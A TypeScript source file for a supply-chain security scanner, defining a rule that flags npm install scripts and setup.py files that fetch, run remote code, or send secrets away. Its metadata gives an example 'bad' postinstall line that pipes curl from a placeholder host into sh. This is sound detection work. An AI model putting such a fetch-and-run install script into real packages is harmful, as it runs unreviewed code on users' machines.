import type { CallEvent } from '../../../engine/machine.js';
import { folderOf, withoutDots } from '../../../files/package-path.js';
import { filesRunBy, scriptsRunBy } from '../../../packages/commands.js';
import type { InstallScript, Manifest } from '../../../packages/package-facts.js';
import type { Severity } from '../../../findings/finding.js';
import { isCodeFile } from '../../support/code-files.js';
import { lineIn } from '../../support/locations.js';
import type { Checks, PackageView, Report, Rule } from '../../rule.js';
import type { Found } from '../../../findings/found.js';
import { conductOf } from '../command-conduct.js';
import { operationOf, filesRunning, KeyFiles, type Operation } from './start-up-code.js';

const ENDINGS = ['', '.js', '.cjs', '.mjs', '.ts', '.py', '/index.js'];

/** The commands of a script and of the scripts that it runs, each script once. */
export function commandsOf(
  { name, command }: Pick<InstallScript, 'name' | 'command'>,
  { scripts }: Pick<Manifest, 'scripts'>,
): readonly string[] {
  const taken = new Set([name]);
  const commands = [command];
  for (const each of commands)
    for (const called of scriptsRunBy(each)) {
      const inner = taken.has(called) ? undefined : scripts.get(called);
      taken.add(called);
      if (inner !== undefined) commands.push(inner);
    }
  return commands;
}

/** The worst that a file does when it runs at installation. */
function conductOfCode(
  operations: readonly Operation[],
  own: ReadonlySet<string>,
): { operation: Operation; action: string; severity: Severity } | undefined {
  const fetches = operations.filter(({ what }) => what === 'fetches');
  const codes = operations.filter(({ what }) => what === 'runs code');
  const programs = operations.filter(({ what }) => what === 'runs a program');
  for (const operation of programs) {
    const conduct = operation.command === undefined ? undefined : conductOf(operation.command, own);
    if (conduct?.severe) return { operation, action: conduct.kind, severity: 'critical' };
  }
  const remote =
    [...codes, ...programs].find(({ foreign }) => foreign) ?? (fetches.length > 0 ? codes[0] : undefined);
  if (remote) return { operation: remote, action: 'runs what it fetches', severity: 'critical' };
  // Sending secrets is not telemetry.
  const stolen = fetches.find(({ secret }) => secret);
  if (stolen) return { operation: stolen, action: 'sends secrets away', severity: 'critical' };
  const sent = fetches.find(({ foreign }) => foreign);
  const looks = operations.some(({ what }) => what === 'identifies the machine');
  if (sent && looks) return { operation: sent, action: 'sends data of the machine away', severity: 'medium' };
  const isChecked = operations.some(({ what }) => what === 'checks a digest');
  const [first] = fetches;
  if (first && !isChecked)
    return { operation: first, action: 'fetches from the network', severity: 'medium' };
  const fetching = programs.find(
    ({ command }) => command !== undefined && conductOf(command, own) !== undefined,
  );
  return fetching && { operation: fetching, action: 'fetches from the network', severity: 'medium' };
}

const isSetup = (path: string): boolean => /(?:^|\/)setup\.py$/u.test(path);

/** Records what files do that may turn out to run at installation. */
class Installation {
  private readonly operations = new Map<string, Operation[]>();
  private readonly keyFiles = new KeyFiles();

  readonly onCall = (event: CallEvent): void => {
    this.keyFiles.onCall(event);
    const operation = operationOf(event, this.keyFiles);
    if (!operation) return;
    for (const file of filesRunning(event.frame)) {
      const known = this.operations.get(file) ?? [];
      if (known.length < 200) known.push(operation);
      this.operations.set(file, known);
    }
  };

  check(view: PackageView, report: Report): void {
    for (const manifest of view.facts.manifests) {
      const own = new Set(manifest.dependencies.map(({ name }) => name));
      for (const script of manifest.installScripts) this.checkScript(script, manifest, own, view, report);
    }
    for (const path of view.paths)
      if (isSetup(path)) this.checkFile(path, 'setup.py', new Set(), view, report);
  }

  private checkScript(
    script: InstallScript,
    manifest: Manifest,
    own: ReadonlySet<string>,
    view: PackageView,
    report: Report,
  ): void {
    const paths = new Set(view.paths);
    const checked = new Set<string>();
    for (const command of commandsOf(script, manifest)) {
      const conduct = conductOf(command, own);
      // `prepare` runs only where the package is built.
      if (conduct && (script.name !== 'prepare' || conduct.severe))
        report({
          ...lineIn(script.manifest, script.line),
          ...reportFlow(
            `The script \`${script.name}\``,
            conduct.kind,
            conduct.severe ? 'critical' : 'medium',
          ),
          sink: `${script.name}: ${conduct.kind}`,
        });
      if (script.name === 'prepare') continue;
      for (const file of filesRunBy(command)) {
        const target = withoutDots(`${folderOf(script.manifest)}${file}`);
        const path = ENDINGS.map((ending) => `${target ?? ''}${ending}`).find((each) => paths.has(each));
        if (target === undefined || path === undefined || checked.has(path)) continue;
        checked.add(path);
        this.checkFile(path, `\`${script.name}\``, own, view, report);
      }
    }
  }

  private checkFile(
    path: string,
    by: string,
    own: ReadonlySet<string>,
    view: PackageView,
    report: Report,
  ): void {
    const what =
      by === 'setup.py' ? '`setup.py`, which runs at installation,' : `The file, which ${by} runs,`;
    if (!isCodeFile(path)) {
      for (const [index, line] of view.file(path)?.lines.entries() ?? []) {
        const conduct = line.trimStart().startsWith('#') ? undefined : conductOf(line, own);
        if (conduct)
          report({
            ...lineIn(path, index + 1),
            ...reportFlow(what, conduct.kind, conduct.severe ? 'critical' : 'medium'),
            sink: conduct.kind,
          });
      }
      return;
    }
    const found = conductOfCode(this.operations.get(path) ?? [], own);
    if (!found) return;
    const { operation, action, severity } = found;
    report({
      at: operation.frame,
      lines: operation.lines,
      ...reportFlow(what, action, severity),
      sink: action,
    });
  }
}

const reportFlow = (
  who: string,
  action: string,
  severity: Severity,
): Pick<Found, 'description' | 'severity' | 'confidence'> => ({
  description: action.startsWith('sends ')
    ? `${who} ${action} while the package is installed, before anybody has looked at it or was asked.`
    : `${who} ${action} while the package is installed: its publisher, or whoever answers there, runs code on every machine.`,
  severity,
  confidence: severity === 'critical' ? 'high' : 'medium',
});

function remembering({ facts, paths }: Pick<PackageView, 'facts' | 'paths'>): Checks {
  const isQuiet = facts.manifests.every(({ installScripts }) => installScripts.length === 0);
  // Most packages run nothing at installation, so nothing needs to be recorded.
  if (isQuiet && !paths.some(isSetup)) return {};
  const installation = new Installation();
  return { calls: { '*': installation.onCall }, package: (view, report) => installation.check(view, report) };
}

/** Installation scripts that do more than build. */
export const installScript: Rule = {
  id: 'MCP-L005',
  class: 'L',
  title: 'Installation that fetches or runs foreign code',
  severity: 'critical',
  confidence: 'high',
  cwe: 829,
  cvss: 'AV:N/AC:L/PR:N/UI:R/S:C/C:H/I:H/A:H',
  what: "npm's `preinstall`, `install` or `postinstall`, a file that they run, or `setup.py` fetches something, runs what it has fetched or decoded, or sends data of the machine away. Fetching, or sending what is no secret, is medium by itself; running what comes back, or sending secrets, is critical.",
  why: 'Installation runs before anybody has looked at the package, with all rights of the user or of the build machine. What is fetched there is in no archive that was reviewed, and may be another thing tomorrow.',
  example: {
    language: 'json',
    bad: '"postinstall": "curl -fsSL https://get.example.net/setup.sh | sh"',
    good: '"prepack": "tsc"',
  },
  fix: 'Ship what the package needs inside it. Where a binary must be fetched, do it when the user asks for it, from a fixed version, and compare its digest before it is run.',
  notCounted: [
    '`node scripts/build.js`, `node-gyp rebuild`, `husky`, `patch-package` and what else only builds',
    'downloads whose digest is compared',
    '`setup.py` that reads files of its own, or asks git for the version',
  ],
  remembering,
};
